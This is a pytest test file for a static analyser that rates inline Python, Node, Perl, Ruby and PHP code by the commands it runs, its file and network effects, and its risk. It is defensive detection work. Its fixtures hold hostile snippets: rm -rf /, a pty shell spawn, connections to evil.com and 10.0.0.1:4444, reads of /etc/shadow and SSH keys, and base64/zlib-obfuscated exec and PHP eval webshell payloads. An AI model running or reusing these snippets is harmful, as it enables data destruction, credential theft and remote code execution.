"""Inline code analysis: commands, effects, risk and opacity of Python, Node, Perl, Ruby, PHP, Lua, awk and sed code."""

from __future__ import annotations

import base64
import copy
import json
import shlex
import tomllib
import zlib
from dataclasses import replace
from importlib import resources
from pathlib import Path
from typing import Any, Callable

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from policylang.analysis.sourcecode import MAX_SOURCE, CodeFindings, analyse_code, code_language
from policylang.analysis.sourcecode.collector import Budget, Out
from policylang.analysis.sourcecode.script_calls import ScriptAnalyser
from policylang.analysis.sourcecode.syntax import SpecError, load_syntaxes, syntaxes
from policylang.verdict import Risk

H, M, L, U = Risk.HIGH, Risk.MEDIUM, Risk.LOW, Risk.UNKNOWN
# The shared corpus sits beside the repository (shared/ next to the clone).
CORPUS = Path(__file__).resolve().parent / "data" / "commands-dev.tsv"  # the repository's copy of the corpus


def check(
    f: CodeFindings,
    commands: object = None,
    effects: object = None,
    risk: Risk | None = None,
    opaque: bool | None = None,
) -> None:
    """Compare the parts of a finding a row specifies (None: not specified)."""
    if commands is not None:
        assert f.commands == tuple(commands), f
    if effects is not None:
        assert f.effects == tuple(effects), f
    if risk is not None:
        assert f.risk is risk, f
    if opaque is not None:
        assert f.opaque is opaque, f
    if f.opaque:
        assert f.opaque_reason, f
    assert "internal error" not in f.opaque_reason


# -------------------------------------------------------------------------- the brief's corpus rows


@pytest.mark.parametrize(
    "lang, src, commands, effects, risk, opaque",
    [
        ("python", "import os; os.system('rm -rf /')", ["rm -rf /"], [], L, False),
        ("python", "import shutil; shutil.rmtree('/home/user')", [], [("delete", "/home/user", True)], H, False),
        ("python3", "import os; os.remove('/etc/passwd')", [], [("delete", "/etc/passwd", False)], M, False),
        ("node", "require('child_process').execSync('rm -rf /')", ["rm -rf /"], [], L, False),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf('/home/user')", [], [("delete", "/home/user", True)], H, False),
        ("ruby", "`rm -rf /home/user`", ["rm -rf /home/user"], [], L, False),
        ("perl", "system('rm -rf /home/user')", ["rm -rf /home/user"], [], L, False),
        ("python", "print('hello')", [], [], L, False),
        ("python", 'import subprocess; subprocess.run(["rm", "-rf", "/"])', [("rm", "-rf", "/")], [], L, False),
    ],
)
def test_brief_rows(lang, src, commands, effects, risk, opaque):
    check(analyse_code(lang, src), commands, effects, risk, opaque)


def _corpus_inline_rows() -> list[tuple[str, str, str]]:
    rows = []
    for line in CORPUS.read_text(encoding="utf-8").splitlines():
        parts = line.split("\t")
        if len(parts) < 2:
            continue
        try:
            argv = shlex.split(parts[0])
        except ValueError:
            continue
        lang = code_language(argv[0]) if argv else None
        if lang not in ("python", "node", "perl", "ruby", "php"):
            continue
        for flag in ("-c", "-e", "-r"):
            if flag in argv[1:-1]:
                rows.append((argv[0], argv[argv.index(flag) + 1], parts[1]))
                break
    return rows


def test_corpus_interpreter_one_liners():
    rows = _corpus_inline_rows()
    assert len(rows) >= 10
    for interp, src, verdict in rows:
        f = analyse_code(interp, src)
        notable = bool(f.commands) or f.opaque or f.risk >= Risk.MEDIUM
        if verdict == "deny":
            assert notable, (interp, src, f)
        else:
            assert not notable and not f.effects, (interp, src, f)


# ---------------------------------------------------------------------------------------- python


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        # spawning, with aliases and folding
        ("import subprocess as sp\nsp.call('ls -l /tmp', shell=True)", ["ls -l /tmp"], [], L, False),
        ("from subprocess import check_output as co\nco(['git', 'status'])", [("git", "status")], [], L, False),
        ("import subprocess\nsubprocess.run('rm -rf /x')", [("rm", "-rf", "/x")], [], L, False),
        (
            "import subprocess\nsubprocess.Popen(args=['ls', '/'], executable='/bin/rm')",
            [("/bin/rm", "/")],
            [],
            L,
            False,
        ),
        ("import subprocess\nsubprocess.run(['ls'], shell=True)", ["ls"], [], L, False),
        ("import os\ncmd = 'rm -rf ' + '/'\nos.system(cmd)", ["rm -rf /"], [], L, False),
        ("import os; os.system('%s -la' % 'ls')", ["ls -la"], [], L, False),
        ("import os; os.system('{} -la'.format('ls'))", ["ls -la"], [], L, False),
        ("import os; os.system(' '.join(['rm', '-rf', '/']))", ["rm -rf /"], [], L, False),
        ("import os; os.system('/ fr- mr'[::-1])", ["rm -rf /"], [], L, False),
        ("import os; os.system(f'{\"rm\"} -rf /')", ["rm -rf /"], [], L, False),
        ("import codecs, os; os.system(codecs.decode('ez -es /', 'rot13'))", ["rm -rf /"], [], L, False),
        ("import os; os.system(b'ls')", ["ls"], [], L, False),
        ("import os; os.popen('ls').read()", ["ls"], [], L, False),
        ("__import__('os').system('id')", ["id"], [], L, False),
        ("getattr(__import__('os'), 'sys' + 'tem')('id')", ["id"], [], L, False),
        ("import importlib\nimportlib.import_module('subprocess').getoutput('id')", ["id"], [], L, False),
        ("from os import *\nsystem('id')", ["id"], [], L, False),
        ("import posix; posix.system('id')", ["id"], [], L, False),
        ("import os as o, subprocess\no.system('a'); subprocess.getoutput('b')", ["a", "b"], [], L, False),
        ("import os\ns = os.system\ns('id')", ["id"], [], L, False),
        ("import os\nos.execvp('rm', ['rm', '-rf', '/x'])", [("rm", "-rf", "/x")], [], L, False),
        ("import os\nos.execl('/bin/rm', 'rm', '-rf', '/x')", [("/bin/rm", "-rf", "/x")], [], L, False),
        ("import os\nos.execle('/bin/ls', 'ls', '-l', {})", [("/bin/ls", "-l")], [], L, False),
        ("import os\nos.spawnv(os.P_WAIT, '/bin/ls', ['ls', '-a'])", [("/bin/ls", "-a")], [], L, False),
        # a shell with no script reads what the code gives it (the reverse-shell TTY trick): high
        ("import pty; pty.spawn('/bin/sh')", [("/bin/sh",)], [], Risk.HIGH, False),
        ("import pty; pty.spawn(['/bin/bash', '-i'])", [("/bin/bash", "-i")], [], Risk.HIGH, False),
        ("import asyncio\nasyncio.create_subprocess_exec('ls', '-l')", [("ls", "-l")], [], L, False),
        ("import asyncio\nasyncio.create_subprocess_shell('ls | wc')", ["ls | wc"], [], L, False),
        ("import commands; commands.getoutput('uptime')", ["uptime"], [], L, False),
        ("import os\ndef system(x): pass\nsystem('x')", [], [], L, False),  # a local function, not os.system
        # a name bound more than once may be any of its values (the analysis does not follow the
        # order of statements): os may still be the module
        ("import os\nos = None\nos.system('x')", ["x"], [], L, False),
        # nested code
        ("exec('import os\\nos.system(\"id\")')", ["id"], [], L, False),
        ('eval(\'__import__("os").system("id")\')', ["id"], [], L, False),
        (
            "code = compile('import shutil; shutil.rmtree(\"/a\")', 'x', 'exec'); exec(code)",
            [],
            [("delete", "/a", True)],
            H,
            False,
        ),
        ("import os\nexec('os.system(\"id\")')", ["id"], [], L, False),
        ("eval('1 + 2')", [], [], L, False),
        # dynamic / dangerous
        ("import os\nos.system(cmd)", [], [], U, True),
        ("import os\nos.system(f'rm -rf {d}')", [], [], U, True),
        ("import subprocess\nsubprocess.run(['rm', '-rf', path])", [], [], U, True),
        ("import subprocess\nsubprocess.run(*argv)", [], [], U, True),
        ("exec(input())", [], [], H, True),
        ("eval(open('x.py').read())", [], [("read", "x.py", False)], H, True),
        ("compile(src, 'x', 'exec')", [], [], H, True),
        ("__import__(name)", [], [], H, True),
        ("import importlib\nimportlib.import_module('os' + suffix)", [], [], H, True),
        ("import os\ngetattr(os, name)('id')", [], [], H, True),
        ("import pickle\npickle.loads(data)", [], [], H, True),
        ("import marshal; exec(marshal.loads(blob))", [], [], H, True),
        ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", [], [], H, True),
        ("from ctypes import cdll\ncdll.LoadLibrary('libc.so.6')", [], [], H, True),
        ("import yaml\nyaml.unsafe_load(s)", [], [], H, True),
        # base64-decoded code is followed, and HIGH
        ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2xzJyk='))", ["ls"], [], H, False),
        ("import base64; exec(base64.b64decode(blob))", [], [], H, True),
        (
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('"
            + base64.b64encode(zlib.compress(b"import os; os.system('id')")).decode()
            + "')))",
            ["id"],
            [],
            H,
            False,
        ),
        # files
        ("import shutil\nshutil.rmtree('build')", [], [("delete", "build", True)], H, False),
        (
            "import os\nos.unlink('a.txt'); os.rmdir('d')",
            [],
            [("delete", "a.txt", False), ("delete", "d", False)],
            M,
            False,
        ),
        ("import shutil\nshutil.move('/a', '/b')", [], [("delete", "/a", False), ("write", "/b", False)], M, False),
        ("import shutil\nshutil.copytree('src', 'dst')", [], [("read", "src", True), ("write", "dst", True)], M, False),
        ("import shutil\nshutil.copy('a', 'b')", [], [("read", "a", False), ("write", "b", False)], M, False),
        ("open('/etc/hosts', 'w').write('x')", [], [("write", "/etc/hosts", False)], M, False),
        ("open('/etc/hosts', mode='a')", [], [("write", "/etc/hosts", False)], M, False),
        ("with open('/tmp/x') as f: print(f.read())", [], [("read", "/tmp/x", False)], L, False),
        ("open(p, 'a')", [], [("write", None, False)], M, False),
        ("open('x', mode)", [], [("write", "x", False)], M, False),  # an unknown mode may write
        ("import os\nos.listdir()", [], [("read", ".", False)], L, False),
        (
            "import os\nfor f in os.listdir('/tmp'):\n    os.remove(f)",
            [],
            [("read", "/tmp", False), ("delete", None, False)],
            M,
            False,
        ),
        (
            "import os\nos.remove(os.path.join(os.environ['HOME'], '.bashrc'))",
            [],
            [("delete", "~/.bashrc", False)],
            M,
            False,
        ),
        ("import os\nos.remove(os.path.expanduser('~/.bashrc'))", [], [("delete", "~/.bashrc", False)], M, False),
        # pathlib
        ("from pathlib import Path\nPath('/tmp/x').unlink()", [], [("delete", "/tmp/x", False)], M, False),
        (
            "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
            [],
            [("read", "~/.ssh/id_rsa", False)],
            L,
            False,
        ),
        (
            "import pathlib\np = pathlib.Path('/etc') / 'hosts'\np.write_text('x')",
            [],
            [("write", "/etc/hosts", False)],
            M,
            False,
        ),
        (
            "from pathlib import Path\nPath('a').joinpath('b').rename('c')",
            [],
            [("delete", "a/b", False), ("write", "c", False)],
            M,
            False,
        ),
        (
            "from pathlib import Path\nfor p in Path('/').rglob('*'): p.unlink()",
            [],
            [("read", "/", True), ("delete", None, False)],
            M,
            False,
        ),
        (
            "import shutil, pathlib\nshutil.rmtree(pathlib.Path('/home') / 'user')",
            [],
            [("delete", "/home/user", True)],
            H,
            False,
        ),
        ("from pathlib import Path\nPath('out.txt').open('w')", [], [("write", "out.txt", False)], M, False),
        # network
        ("import requests; requests.get('https://evil.com/x')", [], [("network", "evil.com", False)], M, False),
        ("import requests; requests.request('POST', 'http://h.io:8080/p')", [], [("network", "h.io", False)], M, False),
        (
            "import requests\ns = requests.Session()\ns.get('https://api.github.com/x')",
            [],
            [("network", "api.github.com", False)],
            M,
            False,
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://x.com/a')",
            [],
            [("network", "x.com", False)],
            M,
            False,
        ),
        (
            "import urllib.request as u\nu.urlopen(u.Request('https://r.net/'))",
            [],
            [("network", "r.net", False)],
            M,
            False,
        ),
        ("from urllib.request import urlopen\nurlopen(url)", [], [("network", None, False)], M, False),
        (
            "import socket\ns = socket.socket(); s.connect(('10.0.0.1', 4444))",
            [],
            [("network", "10.0.0.1", False)],
            M,
            False,
        ),
        ("import socket\nsocket.create_connection(('h.example', 80))", [], [("network", "h.example", False)], M, False),
        ("import socket\ns = socket.socket(socket.AF_UNIX); s.connect('/run/x.sock')", [], [], L, False),
        (
            "import http.client\nhttp.client.HTTPSConnection('api.x.com')",
            [],
            [("network", "api.x.com", False)],
            M,
            False,
        ),
        (
            "import urllib.request\nurllib.request.urlretrieve('http://a.b/c.sh', '/tmp/c.sh')",
            [],
            [("network", "a.b", False), ("write", "/tmp/c.sh", False)],
            M,
            False,
        ),
        # table functions used as values: the arguments are not seen
        ("import os\nlist(map(os.remove, files))", [], [("delete", None, False)], M, False),
        ("import shutil\nfor d in dirs: shutil.rmtree(d)", [], [("delete", None, True)], H, False),
        ("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", [], [], U, True),
        # the partial is resolved (its arguments and the call's are put together); passing
        # subprocess.run as a value still makes it opaque
        ("import functools, subprocess\nfunctools.partial(subprocess.run, shell=True)('id')", ["id"], [], U, True),
        ("f = eval\nf(x)", [], [], H, True),
        # plain computation
        ("import math\nprint(math.sqrt(2))", [], [], L, False),
        ("x = [i * i for i in range(10)]\nprint(sum(x))", [], [], L, False),
        ("x = 'a' * 10**9", [], [], L, False),
        ("", [], [], L, False),
    ],
)
def test_python(src, commands, effects, risk, opaque):
    check(analyse_code("python", src), commands, effects, risk, opaque)


@pytest.mark.parametrize(
    "src, reason",
    [
        ("def f(:", "does not parse"),
        ("x = '", "does not parse"),
        ("\x00", "does not parse"),
        ("'a' + " * 40000 + "'a'", "nested too deeply"),
        ("(" * 300 + ")" * 300, "does not parse"),
        ("-" * 100000 + "1", ""),
    ],
)
def test_python_malformed_is_opaque(src, reason):
    f = analyse_code("python", src)
    assert f.opaque and reason in f.opaque_reason
    assert f.risk is Risk.UNKNOWN and f.commands == () and f.effects == ()


def test_python_why_names_the_call():
    f = analyse_code("python", "import shutil; shutil.rmtree('/home/user')")
    assert f.why == ("shutil.rmtree deletes a tree: /home/user",)
    f = analyse_code("python", "exec('import os; os.system(\"id\")')")
    assert f.why == ("exec(): os.system runs a shell command: 'id'",)


def test_python_nested_exec_depth_is_bounded():
    src = "os.system('id')"
    for _ in range(6):
        src = f"exec({src!r})"
    f = analyse_code("python", "import os\n" + src)
    assert f.opaque and "nested" in f.opaque_reason and f.commands == ()


@pytest.mark.parametrize(
    "lang, src",
    [
        ("python", "a = 'x' * 200000\nimport os; os.system(a.replace('x', a))"),
        ("python", "a = ('x' * 200000,) * 200000\nimport os; os.system(''.join(a))"),
        ("python", "a = 'x' * 200000\nimport os; os.system(('{0}' * 60000).format(a))"),
        ("python", "a = 'x' * 200000\nimport os; os.system('%s' * 60000 % ((a,) * 60000))"),
        ("python", "a = 'x' * 200000\nimport os; os.system(f'{a}{a}{a}{a}{a}{a}{a}{a}{a}{a}')"),
        ("python", "a = 'x' * 200000\nimport os; os.system(a + a + a + a + a + a + a + a + a + a + a)"),
        ("python", "import os; os.system('{:>{}}'.format('x', 1000000000))"),
        ("python", "import os; os.system('%*d' % (1000000000, 1))"),
        ("python", "import os; os.system(f'{1:{1000000000}}')"),
        ("python", "import os; os.system('x'.center(1000000000))"),
        ("php", "$a = '" + "x" * 100000 + "'; system($a.$a.$a.$a.$a.$a.$a.$a.$a.$a.$a.$a);"),
        ("node", "const a = '" + "x" * 100000 + "'; require('child_process').execSync(a+a+a+a+a+a+a+a+a+a+a+a)"),
        ("perl", "system(0x" + "f" * 20000 + ")"),
    ],
)
def test_folding_bombs_give_up(lang, src):
    f = analyse_code(lang, src)
    assert f.opaque and f.commands == () and "internal error" not in f.opaque_reason


def test_python_folding_is_bounded():
    # each name doubles the string: folding must give up rather than build gigabytes
    lines = (
        ["a0 = 'x' * 60000"] + [f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 40)] + ["import os", "os.system(a39)"]
    )
    f = analyse_code("python", "\n".join(lines))
    assert f.opaque and f.commands == ()


# ------------------------------------------------------------------------------------------ node


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        (
            "const cp = require('child_process');\ncp.exec('ls -la', (e, out) => console.log(out))",
            ["ls -la"],
            [],
            L,
            False,
        ),
        ("const { spawnSync } = require('child_process'); spawnSync('ls', ['-l'])", [("ls", "-l")], [], L, False),
        (
            "const { spawnSync } = require('child_process'); spawnSync('ls', ['-l'], {shell: true})",
            ["ls -l"],
            [],
            L,
            False,
        ),
        ("require('child_process')['execSync']('id')", ["id"], [], L, False),
        ("require('child_process')?.execSync('id')", ["id"], [], L, False),
        (
            "const c = require('child_process'), f = require('fs'); f.unlinkSync('/a'); c.execFileSync('/bin/ls', ['-a'])",
            [("/bin/ls", "-a")],
            [("delete", "/a", False)],
            M,
            False,
        ),
        ("import { execSync as x } from 'node:child_process'; x('whoami')", ["whoami"], [], L, False),
        ("import cp from 'child_process'; cp.spawn('rm', ['-rf', '/'])", [("rm", "-rf", "/")], [], L, False),
        ("const cp = require('child_process'); const run = cp.execSync; run('id')", ["id"], [], L, False),
        ("process.mainModule.require('child_process').execSync('id')", ["id"], [], L, False),
        ("require('child_process').spawn('sh', ['-c', 'rm -rf /'])", [("sh", "-c", "rm -rf /")], [], L, False),
        ("require('child_process').fork('./worker.js', ['a'])", [("node", "./worker.js", "a")], [], L, False),
        ("const shell = require('shelljs'); shell.exec('git status')", ["git status"], [], L, False),
        ("$`rm -rf /tmp/x`", ["rm -rf /tmp/x"], [], L, False),
        ("require('child_process').execSync('\\x72\\x6d -rf /')", ["rm -rf /"], [], L, False),
        ("require('child_process').execSync('rm' + ' -rf /')", ["rm -rf /"], [], L, False),
        ("require('child_process').execSync(`ls /`)", ["ls /"], [], L, False),
        ("import('child_process').then(m => m.execSync('id'))", ["id"], [], L, False),  # loose: module imported
        (
            "const util = require('util'); const run = util.promisify(require('child_process').exec); await run('ls -l')",
            ["ls -l"],
            [],
            L,
            False,
        ),
        (
            "const { promisify } = require('util'); const { exec } = require('child_process'); promisify(exec)('id')",
            ["id"],
            [],
            L,
            False,
        ),
        # dynamic
        ("const {execSync} = require('child_process'); execSync('rm -rf ' + dir)", [], [], U, True),
        ("const {execSync: ex} = require('node:child_process'); ex(`ls ${x}`)", [], [], U, True),
        ("require('child_process').spawn(cmd, args)", [], [], U, True),
        ("require(x)", [], [], H, True),
        ("eval(code)", [], [], H, True),
        ("globalThis.eval(code)", [], [], H, True),
        ("new Function(body)()", [], [], H, True),
        ("require('vm').runInNewContext(src)", [], [], H, True),
        ("process.binding('spawn_sync')", [], [], H, True),
        ("setTimeout(code, 10)", [], [], L, False),  # a callback, not code text
        ("setTimeout(`${a}`, 10)", [], [], H, True),  # a string built at run time
        ("setTimeout(() => {}, 10)", [], [], L, False),
        # nested code
        ('eval(\'require("child_process").execSync("id")\')', ["id"], [], L, False),
        ('setTimeout(\'require("fs").rmSync("/", {recursive:true})\', 10)', [], [("delete", "/", True)], H, False),
        ("eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))", ["id"], [], H, False),
        (
            "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString())",
            ["id"],
            [],
            H,
            False,
        ),
        ("require('child_process').execSync(`echo ${require('child_process').execSync('id')}`)", ["id"], [], U, True),
        ('x = `a ${`b ${require("child_process").execSync("id")}`}`', ["id"], [], L, False),
        ("x = `a ${ {a: 1}.a } ${\"}\"}`; require('child_process').execSync('ok')", ["ok"], [], L, False),
        # files
        (
            "const fs = require('fs'); fs.rmSync('/x', {recursive: true, force: true})",
            [],
            [("delete", "/x", True)],
            H,
            False,
        ),
        ("require('fs').rmSync('/x')", [], [("delete", "/x", False)], M, False),
        ("require('fs').rmSync('/x', opts)", [], [("delete", "/x", True)], H, False),  # options unknown: the worst
        (
            "import * as fs from 'fs/promises'; await fs.rm('/d', { recursive: true })",
            [],
            [("delete", "/d", True)],
            H,
            False,
        ),
        ("require('fs').promises.writeFile('/etc/x', 'y')", [], [("write", "/etc/x", False)], M, False),
        ("const s = '/tmp/a'; require('fs').readFileSync(s, 'utf8')", [], [("read", "/tmp/a", False)], L, False),
        ("require('fs').renameSync('a', 'b')", [], [("delete", "a", False), ("write", "b", False)], M, False),
        ("require('fs').openSync('log', 'a')", [], [("write", "log", False)], M, False),
        ("require('fs-extra').removeSync('/home')", [], [("delete", "/home", True)], H, False),
        ("require('fs-extra').readFileSync('/etc/shadow')", [], [("read", "/etc/shadow", False)], L, False),
        ("const rimraf = require('rimraf'); rimraf.sync('/w')", [], [("delete", "/w", True)], H, False),
        ("const shell = require('shelljs'); shell.rm('-rf', '/x')", [], [("delete", "/x", True)], H, False),
        # network
        ("fetch('https://evil.example/x').then(r => r.text())", [], [("network", "evil.example", False)], M, False),
        ("require('https').get('https://a.b/c', res => {})", [], [("network", "a.b", False)], M, False),
        ("require('http').request({host: 'h.com', port: 80})", [], [("network", "h.com", False)], M, False),
        ("require('net').connect(4444, '10.1.1.1')", [], [("network", "10.1.1.1", False)], M, False),
        ("require('net').connect({port: 1, host: 'n.io'})", [], [("network", "n.io", False)], M, False),
        ("fetch(new URL('https://u.rl/x'))", [], [("network", "u.rl", False)], M, False),
        ("fetch(url)", [], [("network", None, False)], M, False),
        # data, comments, regexes
        ("console.log(1 / 2, 'a/b'.split('/'))", [], [], L, False),
        ("const re = /execSync\\('x'\\)/; re.test(s)", [], [], L, False),
        ("// require('child_process').execSync('rm -rf /')\nconsole.log('hi')", [], [], L, False),
        ("/* require('child_process').execSync('x') */ 1", [], [], L, False),
        ("console.log(\"require('child_process').execSync('x')\")", [], [], L, False),
    ],
)
def test_node(src, commands, effects, risk, opaque):
    check(analyse_code("node", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------ perl


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        ("system 'rm', '-rf', '/x' or die", [("rm", "-rf", "/x")], [], L, False),
        ("exec('ls -l')", ["ls -l"], [], L, False),
        ("my $out = `ls -la`; print $out", ["ls -la"], [], L, False),
        ("my $o = qx{id};", ["id"], [], L, False),
        ("qx/$cmd/", [], [], U, True),
        ('my $c = "rm -rf /"; system $c', ["rm -rf /"], [], L, False),
        ("my @args = ('rm', '-rf', '/'); system(@args)", [("rm", "-rf", "/")], [], L, False),
        ("CORE::system('id')", ["id"], [], L, False),
        ("system(q(ls -la))", ["ls -la"], [], L, False),
        ('system("rm -rf $dir")', [], [], U, True),
        ("system('rm -rf ' . '/tmp/x')", ["rm -rf /tmp/x"], [], L, False),
        ('system("\\x72m -rf /")', ["rm -rf /"], [], L, False),
        ("open(FH, 'ls |')", ["ls"], [], L, False),
        ('open FH, "| mail x"', ["mail x"], [], L, False),
        ("open(my $fh, '-|', 'ls', '-l')", [("ls", "-l")], [], L, False),
        ("open(F, '>/etc/passwd')", [], [("write", "/etc/passwd", False)], M, False),
        ("open(my $f, '<', '/etc/shadow')", [], [("read", "/etc/shadow", False)], L, False),
        ("open(F, $file)", [], [], U, True),  # 2-argument open of a run-time string may run a command
        ("eval \"system('id')\"", ["id"], [], L, False),
        ("eval $code", [], [], H, True),
        ("eval { die 'x' }; print 'ok'", [], [], L, False),
        ("use MIME::Base64; eval(decode_base64('c3lzdGVtKCdpZCcp'))", ["id"], [], H, False),
        ("unlink '/tmp/a', '/tmp/b'", [], [("delete", "/tmp/a", False), ("delete", "/tmp/b", False)], M, False),
        ("use File::Path; rmtree('/x')", [], [("delete", "/x", True)], H, False),
        ("File::Path::remove_tree('/home/u', {verbose => 1})", [], [("delete", "/home/u", True)], H, False),
        ("unlink glob('*.tmp')", [], [("delete", None, False)], M, False),
        ("use File::Copy; move('a', 'b')", [], [("delete", "a", False), ("write", "b", False)], M, False),
        ("use LWP::Simple; get('http://evil.com/x')", [], [("network", "evil.com", False)], M, False),
        (
            "my $ua = LWP::UserAgent->new; $ua->get('https://a.example/')",
            [],
            [("network", "a.example", False)],
            M,
            False,
        ),
        ("HTTP::Tiny->new->get('https://t.example/')", [], [("network", "t.example", False)], M, False),
        ("IO::Socket::INET->new(PeerAddr => '1.2.3.4:80')", [], [("network", "1.2.3.4", False)], M, False),
        (
            "IO::Socket::INET->new(PeerAddr => '1.2.3.4', PeerPort => 80, Proto => 'tcp')",
            [],
            [("network", "1.2.3.4", False)],
            M,
            False,
        ),
        # data that looks like code
        ('print "hello $name\\n"; $x =~ s/system/exec/g; my %h = (a => 1)', [], [], L, False),
        ("print 'system(\"id\")'", [], [], L, False),
        ("# system('id')\nprint 1", [], [], L, False),
        ("print <<EOF;\nsystem('x')\nEOF\nsystem('id')", ["id"], [], L, False),
        ("$_ = 'a'; s{a}{b}; y/a-z/A-Z/; print", [], [], L, False),
        ("my $x = 10 % 3; my %h; system 'true'", ["true"], [], L, False),
        ("print 1;\n__END__\nsystem('id')", [], [], L, False),
    ],
)
def test_perl(src, commands, effects, risk, opaque):
    check(analyse_code("perl", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------ ruby


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        ("exec 'ls'", ["ls"], [], L, False),
        ("system 'rm', '-rf', '/'", [("rm", "-rf", "/")], [], L, False),
        ("Kernel.system('rm -rf /x')", ["rm -rf /x"], [], L, False),
        ("%x(ls -l)", ["ls -l"], [], L, False),
        ("x = %x{id}", ["id"], [], L, False),
        ("IO.popen(['ls', '-l'])", [("ls", "-l")], [], L, False),
        ("IO.popen('ls').read", ["ls"], [], L, False),
        ("Open3.capture2('ls', '-l')", [("ls", "-l")], [], L, False),
        ("Open3.popen3('git status') { |i, o, e, t| }", ["git status"], [], L, False),
        ("system({'A' => 'b'}, 'ls', '-l', chdir: '/tmp')", [("ls", "-l")], [], L, False),
        ("spawn('sleep 10', out: '/dev/null')", ["sleep 10"], [], L, False),
        ("send(:system, 'id')", ["id"], [], L, False),
        ("Object.new.send(:system, 'id')", ["id"], [], L, False),
        ("method(:system).call('id')", ["id"], [], L, False),
        ("x = <<~CMD\n  rm -rf /\nCMD\nsystem(x)", ["rm -rf /"], [], L, False),
        ('puts "#{`id`}"', ["id"], [], L, False),
        ('puts "a #{"b #{`id`}"}"', ["id"], [], L, False),  # interpolation inside interpolation
        ("open('|ls')", ["ls"], [], L, False),
        ('system("rm -rf #{dir}")', [], [], U, True),
        ("`#{cmd}`", [], [], U, True),
        ("open(path)", [], [], U, True),  # Kernel#open of a run-time string may run a command
        ("x.send(m, 'a')", [], [], H, True),
        ("eval(gets)", [], [], H, True),
        ("eval('system(\"id\")')", ["id"], [], L, False),
        ("require 'base64'; eval(Base64.decode64('c3lzdGVtKCdpZCcp'))", ["id"], [], H, False),
        ("Marshal.load(data)", [], [], H, True),
        ("Fiddle.dlopen('libc.so.6')", [], [], H, True),
        ("File.delete('/tmp/a')", [], [("delete", "/tmp/a", False)], M, False),
        ("File.write('/etc/hosts', 'x')", [], [("write", "/etc/hosts", False)], M, False),
        ("File.read('/etc/passwd')", [], [("read", "/etc/passwd", False)], L, False),
        ("File.open('/etc/x', 'w') { |f| f.puts 'a' }", [], [("write", "/etc/x", False)], M, False),
        ("File.open('/etc/x') { |f| f.read }", [], [("read", "/etc/x", False)], L, False),
        ("FileUtils.rm_rf %w[/a /b]", [], [("delete", "/a", True), ("delete", "/b", True)], H, False),
        ("FileUtils.rm_r(['/a'])", [], [("delete", "/a", True)], H, False),
        ("FileUtils.rm('/a')", [], [("delete", "/a", False)], M, False),
        ("FileUtils.mv('a', 'b')", [], [("delete", "a", False), ("write", "b", False)], M, False),
        ("Pathname.new('/tmp/d').rmtree", [], [("delete", "/tmp/d", True)], H, False),
        (
            "require 'net/http'; Net::HTTP.get(URI('https://evil.com/p'))",
            [],
            [("network", "evil.com", False)],
            M,
            False,
        ),
        ("Net::HTTP.get('example.com', '/index.html')", [], [("network", "example.com", False)], M, False),
        ("open('http://x.com/a')", [], [("network", "x.com", False)], M, False),
        ("TCPSocket.new('10.0.0.9', 9)", [], [("network", "10.0.0.9", False)], M, False),
        ("x = 5 % 3; puts x", [], [], L, False),
        ("h = {key: 'v'}; puts h[:key]", [], [], L, False),
        ("puts 'system(\"id\")' # system('x')", [], [], L, False),
        ("=begin\nsystem('x')\n=end\nputs 1", [], [], L, False),
    ],
)
def test_ruby(src, commands, effects, risk, opaque):
    check(analyse_code("ruby", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------- php

_PHP_SHELL = base64.b64encode(zlib.compress(b"system('id');", 9)[2:-4]).decode()


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        ("shell_exec('ls'); passthru(\"id\"); exec('whoami', $out);", ["ls", "id", "whoami"], [], L, False),
        ("$c = 'rm -rf ' . '/x'; system($c);", ["rm -rf /x"], [], L, False),
        ("proc_open(['ls', '-l'], $d, $p); popen('ls', 'r');", [("ls", "-l"), "ls"], [], L, False),
        ("pcntl_exec('/bin/ls', ['-l']);", [("/bin/ls", "-l")], [], L, False),
        ("SYSTEM('id'); \\system('id2');", ["id", "id2"], [], L, False),
        ("$f = 'exec'; $f('ls');", ["ls"], [], L, False),
        ("call_user_func('system', 'id'); call_user_func_array('exec', ['ls']);", ["id", "ls"], [], L, False),
        ("<?php echo `whoami`; ?>", ["whoami"], [], L, False),
        ('echo "{${system("id")}}";', ["id"], [], L, False),  # code in a string's complex syntax
        ("echo <<<EOT\nsystem('x')\nEOT;\nsystem('real');", ["real"], [], L, False),
        ('system("rm -rf $dir");', [], [], U, True),
        ("$f($x);", [], [], U, True),
        ("$f = function() { return 1; }; $f();", [], [], L, False),
        ("eval($_GET['x']);", [], [], H, True),
        ("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", ["id"], [], H, False),
        (f"eval(gzinflate(base64_decode('{_PHP_SHELL}')));", ["id"], [], H, False),
        ("eval(str_rot13('flfgrz(\"vq\");'));", ["id"], [], H, False),
        ("unserialize($_POST['x']);", [], [], H, True),
        ("assert('system(\"id\")');", ["id"], [], L, False),
        ("preg_replace('/.*/e', $_GET['x'], '');", [], [], H, True),
        ("preg_replace('/a/', 'b', $s);", [], [], L, False),
        ("include $_GET['page'];", [], [], H, True),
        ("require 'vendor/autoload.php';", [], [], L, False),
        ("unlink('/tmp/x');", [], [("delete", "/tmp/x", False)], M, False),
        ("array_map('unlink', glob('*'));", [], [("delete", None, False)], M, False),
        ("$fh = fopen('/etc/passwd', 'r');", [], [("read", "/etc/passwd", False)], L, False),
